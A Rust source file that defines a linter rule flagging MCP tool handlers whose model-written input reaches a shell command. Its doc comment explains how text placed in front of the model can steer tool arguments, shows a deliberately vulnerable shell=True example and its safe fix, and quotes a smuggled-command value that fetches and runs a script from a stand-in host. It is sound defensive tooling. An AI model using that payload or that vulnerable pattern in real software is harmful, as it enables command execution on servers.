use crate::{Check, declare_rule};

declare_rule! {
    /// ## What it does
    /// Finds tool, resource and prompt handlers whose input reaches a shell command: `os.system`,
    /// `os.popen`, `subprocess.*(..., shell=True)`, `asyncio.create_subprocess_shell` and the like,
    /// directly, through string building, through helper functions, or across modules.
    ///
    /// ## Why is this bad?
    /// The arguments of an MCP tool call are written by a language model, and anyone who can put
    /// text in front of that model (a web page, an issue, a file it reads) can steer them. A shell
    /// reads `;`, `&&`, `|`, `$(...)` and backticks as command separators, so a value such as
    /// `main; curl evil.sh | sh` runs the attacker's command with the server's privileges.
    /// Deny-lists of characters do not help: there are too many ways to start a command.
    ///
    /// ## Example
    /// ```python
    /// import subprocess
    /// from mcp.server.fastmcp import FastMCP
    ///
    /// mcp = FastMCP("git")
    ///
    /// @mcp.tool()
    /// def git_log(branch: str) -> str:
    ///     """Show the log of a branch."""
    ///     return subprocess.run(f"git log {branch}", shell=True, capture_output=True, text=True).stdout  # expect: shell-injection
    /// ```
    ///
    /// ## Use instead
    /// Pass an argument list and keep the shell off; put `--` before user values so they cannot
    /// become options:
    /// ```python
    /// import subprocess
    /// from mcp.server.fastmcp import FastMCP
    ///
    /// mcp = FastMCP("git")
    ///
    /// @mcp.tool()
    /// def git_log(branch: str) -> str:
    ///     """Show the log of a branch."""
    ///     return subprocess.run(["git", "log", "--", branch], capture_output=True, text=True).stdout
    /// ```
    /// Where a shell is unavoidable, quote every value with `shlex.quote`.
    ///
    /// ## References
    /// - [CWE-78: OS Command Injection](https://cwe.mitre.org/data/definitions/78.html)
    /// - [Python `subprocess` security considerations](https://docs.python.org/3/library/subprocess.html#security-considerations)
    pub(crate) SHELL_INJECTION {
        name: "shell-injection",
        severity: Error,
        cwe: [78],
        summary: "tool input reaches a shell command",
        languages: [Python, TypeScript, JavaScript, Rust],
        check: Check::Taint {
            kinds: &["shell"],
            message: "{tool} input reaches {what}",
        },
    }
}
